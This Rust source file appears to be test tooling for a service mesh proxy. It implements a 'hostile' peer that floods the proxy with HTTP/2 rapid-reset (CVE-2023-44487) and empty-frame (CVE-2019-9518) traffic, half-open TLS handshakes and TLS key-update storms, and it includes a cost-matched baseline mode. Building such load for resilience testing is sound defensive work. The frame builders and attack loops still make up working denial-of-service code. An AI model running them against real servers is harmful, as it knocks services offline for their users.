//! A peer that means harm, with a certificate of the mesh: it does one thing again and again, on as
//! many connections as it takes, until it is told to end.

use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use ambit_net::dial::Dial;
use ambit_wire::hpack;
use rustls::ClientConfig;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::{JoinSet, LocalSet};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::mint::{Credentials, unchecking};
use crate::pod::{CONNECT, Pod};

/// What it does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Opens streams and gives them up at once (CVE-2023-44487).
    RapidReset,
    /// Sends frames of data without data on one stream (CVE-2019-9518).
    EmptyFrames,
    /// Begins handshakes, hundreds at a time, and never ends them.
    HalfOpen,
    /// Changes its keys and asks for the other side's to be changed.
    KeyUpdates,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 4] = [
        Self::RapidReset,
        Self::EmptyFrames,
        Self::HalfOpen,
        Self::KeyUpdates,
    ];

    /// For people.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::EmptyFrames => "empty frames",
            Self::HalfOpen => "half-open handshakes",
            Self::KeyUpdates => "key updates",
        }
    }
}

/// Handshakes begun at a time.
const AT_ONCE: usize = 300;

/// Whoever takes nothing for so long is left.
const STANDS: Duration = Duration::from_secs(1);

/// How much it did.
#[derive(Debug, Clone, Copy, Default)]
pub struct Spent {
    /// CPU time of the peer itself.
    pub cpu: Duration,
    /// Connections that it made.
    pub connections: u64,
    /// Bytes that it sent, before encryption.
    pub bytes: u64,
    /// All this in so much time.
    pub during: Duration,
}

impl Spent {
    /// CPU time in parts of the time.
    #[must_use]
    pub fn share(&self) -> f64 {
        self.cpu.as_secs_f64() / self.during.as_secs_f64()
    }

    /// Bytes a second.
    #[must_use]
    pub fn rate(&self) -> f64 {
        self.bytes as f64 / self.during.as_secs_f64()
    }
}

impl std::ops::AddAssign for Spent {
    fn add_assign(&mut self, more: Self) {
        self.cpu += more.cpu;
        self.connections += more.connections;
        self.bytes += more.bytes;
        self.during += more.during;
    }
}

#[derive(Debug, Default)]
struct Counts {
    ended: AtomicBool,
    connections: AtomicU64,
    bytes: AtomicU64,
}

impl Counts {
    fn go_on(&self) -> bool {
        !self.ended.load(Ordering::Relaxed)
    }

    fn sent(&self, bytes: usize) {
        self.bytes.fetch_add(bytes as u64, Ordering::Relaxed);
    }
}

/// A peer at work.
#[derive(Debug)]
pub struct Hostile {
    counts: Arc<Counts>,
    begun: Instant,
    thread: std::thread::JoinHandle<Duration>,
}

impl Hostile {
    /// Ends it.
    ///
    /// # Panics
    ///
    /// It did.
    #[must_use]
    pub fn end(self) -> Spent {
        self.counts.ended.store(true, Ordering::Relaxed);
        let during = self.begun.elapsed();
        Spent {
            cpu: self.thread.join().expect("the peer's thread"),
            connections: self.counts.connections.load(Ordering::Relaxed),
            bytes: self.counts.bytes.load(Ordering::Relaxed),
            during,
        }
    }
}

impl Pod {
    /// Attacks the proxy at `proxy`, as whom `with` says. Between two of its blows, each of some
    /// kilobytes or one handshake, it waits for `pause`.
    ///
    /// # Errors
    ///
    /// The credentials are none.
    ///
    /// # Panics
    ///
    /// No more threads.
    pub fn attack(
        &self,
        attack: Attack,
        proxy: SocketAddr,
        with: &Credentials,
        pause: Duration,
    ) -> io::Result<Hostile> {
        let mut config = unchecking(Some(with))?;
        config.resumption = rustls::client::Resumption::disabled();
        let config = Arc::new(config);
        Ok(self.hostile(move |counts| {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .expect("a runtime");
            LocalSet::new().block_on(&runtime, async {
                if attack == Attack::HalfOpen {
                    return half_open(proxy, counts, pause).await;
                }
                while counts.go_on() {
                    // Being thrown out is what it is here for.
                    let _ = once(attack, proxy, Arc::clone(&config), counts, pause).await;
                }
            });
        }))
    }

    /// Costs the machine as much as an attack did, and no proxy anything: datagrams of as many bytes,
    /// which nobody reads, and as much CPU time.
    #[must_use]
    pub fn pretend(&self, to: SocketAddr, like: Spent) -> Hostile {
        const TICK: Duration = Duration::from_millis(1);
        const DATAGRAM: [u8; 1400] = [7; 1400];
        self.hostile(move |counts| {
            let socket = UdpSocket::bind("0.0.0.0:0").expect("a socket");
            let (mut owed, begun) = (0.0, Instant::now());
            while counts.go_on() {
                owed += like.rate() * TICK.as_secs_f64() / DATAGRAM.len() as f64;
                while owed >= 1.0 {
                    let _ = socket.send_to(&DATAGRAM, to);
                    counts.sent(DATAGRAM.len());
                    owed -= 1.0;
                }
                while cpu() < begun.elapsed().mul_f64(like.share().min(1.0)) && counts.go_on() {
                    std::hint::spin_loop();
                }
                pause_for(TICK);
            }
        })
    }

    fn hostile(&self, work: impl FnOnce(&Counts) + Send + 'static) -> Hostile {
        let counts = Arc::new(Counts::default());
        let (netns, shared) = (Arc::clone(&self.netns), Arc::clone(&counts));
        let thread = std::thread::Builder::new()
            .name("hostile".to_owned())
            .spawn(move || {
                netns.enter().expect("the pod's namespace");
                work(&shared);
                cpu()
            });
        Hostile {
            counts,
            begun: Instant::now(),
            thread: thread.expect("a thread"),
        }
    }
}

#[expect(clippy::disallowed_methods, reason = "a thread of its own")]
fn pause_for(time: Duration) {
    std::thread::sleep(time);
}

/// CPU time of this thread.
fn cpu() -> Duration {
    let used = nix::time::clock_gettime(nix::time::ClockId::CLOCK_THREAD_CPUTIME_ID);
    used.map_or(Duration::ZERO, Duration::from)
}

async fn dial(to: SocketAddr, counts: &Counts) -> io::Result<TcpStream> {
    counts.connections.fetch_add(1, Ordering::Relaxed);
    Ok(Dial::new(to, CONNECT).connect().await?)
}

/// Attacks on one connection until it ends.
async fn once(
    attack: Attack,
    proxy: SocketAddr,
    config: Arc<ClientConfig>,
    counts: &Counts,
    pause: Duration,
) -> io::Result<()> {
    tokio::time::sleep(pause).await;
    let stream = dial(proxy, counts).await?;
    let name = ServerName::IpAddress(proxy.ip().into());
    let connecting = TlsConnector::from(config).connect(name, stream);
    let mut tls = tokio::time::timeout(STANDS, connecting).await??;
    tls.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")
        .await?;
    if attack == Attack::KeyUpdates {
        return key_updates(tls, counts, pause).await;
    }
    let (mut from, mut to) = tokio::io::split(tls);
    let reading = tokio::task::spawn_local(async move {
        let _ = tokio::io::copy(&mut from, &mut tokio::io::sink()).await;
    });
    let authority = SocketAddr::new(proxy.ip(), 20_000).to_string();
    let mut sent = Ok(());
    let mut first = 1;
    if attack == Attack::EmptyFrames {
        to.write_all(&open(1, &authority)).await?;
    }
    while counts.go_on() && sent.is_ok() && !reading.is_finished() {
        let blow = match attack {
            Attack::RapidReset => {
                let streams = (first..first + 128).step_by(2);
                first += 128;
                streams
                    .flat_map(|stream| [open(stream, &authority), reset(stream)].concat())
                    .collect()
            }
            _ => frame(0, 0, 1, &[]).repeat(1000),
        };
        sent = tokio::time::timeout(STANDS, to.write_all(&blow)).await?;
        counts.sent(blow.len());
        wait(pause).await;
    }
    reading.abort();
    sent
}

async fn wait(pause: Duration) {
    if pause.is_zero() {
        tokio::task::yield_now().await;
    } else {
        tokio::time::sleep(pause).await;
    }
}

async fn key_updates(
    mut tls: TlsStream<TcpStream>,
    counts: &Counts,
    pause: Duration,
) -> io::Result<()> {
    /// On the wire.
    const KEY_UPDATE: usize = 27;
    let mut answers = vec![0; 16 * 1024];
    while counts.go_on() {
        for _ in 0..64 {
            let (_, session) = tls.get_mut();
            session.refresh_traffic_keys().map_err(io::Error::other)?;
        }
        tokio::time::timeout(STANDS, tls.flush()).await??;
        counts.sent(64 * KEY_UPDATE);
        tokio::select! {
            biased;
            read = tls.read(&mut answers) => if read? == 0 { break },
            () = wait(pause) => {}
        }
    }
    Ok(())
}

/// Begins handshakes and waits until they are given up.
async fn half_open(proxy: SocketAddr, counts: &Counts, pause: Duration) {
    // A record that says it has 512 bytes of a ClientHello, and the first few of them.
    let begin = [&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3][..], &[7; 60]].concat();
    let mut open = JoinSet::new();
    while counts.go_on() {
        while open.len() < AT_ONCE && counts.go_on() {
            wait(pause).await;
            let Ok(mut stream) = dial(proxy, counts).await else {
                break;
            };
            counts.sent(begin.len());
            let begin = begin.clone();
            open.spawn_local(async move {
                let _ = stream.write_all(&begin).await;
                let _ = stream.read(&mut [0; 64]).await;
            });
            while open.try_join_next().is_some() {}
        }
        let _ = tokio::time::timeout(Duration::from_millis(100), open.join_next()).await;
    }
}

fn open(stream: u32, authority: &str) -> Vec<u8> {
    let mut fields = Vec::new();
    hpack::write(&mut fields, b":method", b"CONNECT");
    hpack::write(&mut fields, b":authority", authority.as_bytes());
    frame(1, 4, stream, &fields)
}

fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8u32.to_be_bytes())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
